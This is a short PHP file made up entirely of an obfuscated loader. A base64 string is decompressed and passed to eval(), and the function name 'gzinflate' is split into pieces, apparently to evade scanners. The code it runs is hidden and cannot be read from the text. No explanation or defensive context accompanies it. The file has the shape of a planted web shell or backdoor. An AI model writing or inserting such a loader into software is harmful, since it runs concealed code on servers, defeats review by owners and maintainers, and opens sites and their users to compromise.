<?php
$z = "Sy1LzNFISixONTOJT0lNzk9J1VBPDI/MT4zwq4qKCMz3crMMDDH0Cw2vTMnyMjQo8I4oqUqN8DOICjfAkPM3NrBV19S0BgA=";
$f = 'gzin' . 'flate';
eval($f(base64_decode($z)));
